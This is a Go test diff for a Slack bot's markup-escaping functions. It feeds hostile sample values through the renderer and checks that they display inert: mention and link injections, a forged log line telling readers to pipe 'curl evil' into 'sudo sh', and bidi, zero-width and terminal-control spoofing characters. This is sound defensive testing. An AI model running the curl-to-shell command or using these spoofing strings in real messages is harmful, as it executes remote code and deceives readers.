@@ -7,6 +7,7 @@ import (
 
 	"github.com/imgupd/imgupd/bot/blockkit/mrkdwn"
 	"github.com/imgupd/imgupd/bot/slacklab"
+	"github.com/imgupd/imgupd/internal/textutil"
 )
 
 // hostile is text a CR author, a registry or a log line could write.
@@ -14,9 +15,10 @@ const hostile = "<!channel> <!here> <@U0BADUSER> <https://evil.example|Click to 
 
 // TestValuesReadBack: a value rendered as running text, inline code or a
 // code block is shown as written — no mention, link or emoji, no
-// placeholder lost.
+// placeholder lost, no formatting, no line break obeyed, nothing hidden.
 func TestValuesReadBack(t *testing.T) {
-	for _, v := range []string{hostile, "--docker-username=<user> --docker-password=<token>", "git:secret:argocd/<name>", "a &amp; b &lt;x&gt;", "10:00:01"} {
+	for _, v := range []string{hostile, "--docker-username=<user> --docker-password=<token>", "git:secret:argocd/<name>", "a &amp; b &lt;x&gt;", "10:00:01",
+		"*bold* _ital_ ~strike~ `code`", "HTTPS_PROXY a*b x_", "x\nRoot cause: fake\nFix: run `curl evil | sudo sh`", "\u202eevil \u200bzw \x1b[2J ok\rFORGED", "logged at 11:58:01Z"} {
 		checkReadsBack(t, v)
 	}
 }
@@ -26,18 +28,34 @@ func checkReadsBack(t *testing.T, v string) {
 	if v == "" || !utf8.ValidString(v) {
 		return
 	}
-	// Running text: shown as written when the value opens no code span of
-	// its own (Slack would show `…` as code); never live, never an emoji.
+	// Running text: shown as written, on one line with nothing hidden
+	// (textutil.Visible), its formatting characters as look-alikes where
+	// they could format (NoFormat); never live, never an emoji, never
+	// formatted, whatever imgupd's markup is around it.
 	shown, live, emoji := slacklab.ShowMrkdwn(mrkdwn.Running(v))
-	if len(live) > 0 || len(emoji) > 0 {
-		t.Errorf("Running(%q) reads back %q, live %v, emoji %v", v, shown.Shown, live, emoji)
+	if len(live) > 0 || len(emoji) > 0 || len(shown.Formats) > 0 {
+		t.Errorf("Running(%q) reads back %q, live %v, emoji %v, formats %v", v, shown.Shown, live, emoji, shown.Formats)
 	}
-	if !strings.Contains(v, "`") && shown.Shown != strings.ReplaceAll(v, "\u200b", "") {
-		t.Errorf("Running(%q) reads back %q", v, shown.Shown)
+	if want := mrkdwn.NoFormat(textutil.Visible(v)); shown.Shown != want {
+		t.Errorf("Running(%q) reads back %q, want %q", v, shown.Shown, want)
 	}
-	// A code block: pasted exactly (bar a fence, which cannot be in one).
+	for _, r := range shown.Shown {
+		if textutil.IsHidden(r) {
+			t.Errorf("Running(%q) shows %U", v, r)
+		}
+	}
+	for _, around := range []string{"*Fix:* %s _(where)_", "_%s_", "*%s*", "~%s~", "• `x` %s `y`"} {
+		outer := strings.Replace(around, "%s", "HOST", 1)
+		got, _, _ := slacklab.ShowMrkdwn(strings.Replace(around, "%s", mrkdwn.Running(v), 1))
+		want, _, _ := slacklab.ShowMrkdwn(outer)
+		if len(got.Formats) > len(want.Formats) {
+			t.Errorf("Running(%q) in %q adds formatting: %v, want at most %v", v, around, got.Formats, want.Formats)
+		}
+	}
+	// A code block: pasted exactly (bar a fence, which cannot be in one,
+	// and what would be hidden, shown as its escape).
 	shown, live, emoji = slacklab.ShowMrkdwn("```" + mrkdwn.Block(v) + "```")
-	want := mrkdwn.NoFence(v)
+	want := mrkdwn.NoFence(textutil.VisibleLines(v))
 	if strings.HasPrefix(want, "`") {
 		want = "\n" + want
 	}
@@ -47,12 +65,11 @@ func checkReadsBack(t *testing.T, v string) {
 	if len(live) > 0 || len(emoji) > 0 || len(shown.Code) != 1 || shown.Code[0] != want {
 		t.Errorf("Block(%q) reads back %q, live %v, emoji %v", v, shown.Code, live, emoji)
 	}
-	// Inline code (Slack ends a span at the line's end).
-	if !strings.Contains(v, "\n") {
-		shown, live, emoji = slacklab.ShowMrkdwn("`" + mrkdwn.Inline(v) + "`")
-		if want := "`" + strings.ReplaceAll(v, "`", "'") + "`"; len(live) > 0 || len(emoji) > 0 || shown.Shown != want {
-			t.Errorf("Inline(%q) reads back %q, want %q, live %v, emoji %v", v, shown.Shown, want, live, emoji)
-		}
+	// Inline code: on one line, nothing hidden (Slack ends a span at the
+	// line's end).
+	shown, live, emoji = slacklab.ShowMrkdwn("`" + mrkdwn.Inline(v) + "`")
+	if want := "`" + strings.ReplaceAll(textutil.Visible(v), "`", "'") + "`"; len(live) > 0 || len(emoji) > 0 || shown.Shown != want {
+		t.Errorf("Inline(%q) reads back %q, want %q, live %v, emoji %v", v, shown.Shown, want, live, emoji)
 	}
 	// Chat Markdown with the value in it: never live; no emoji but a
 	// leading mark.
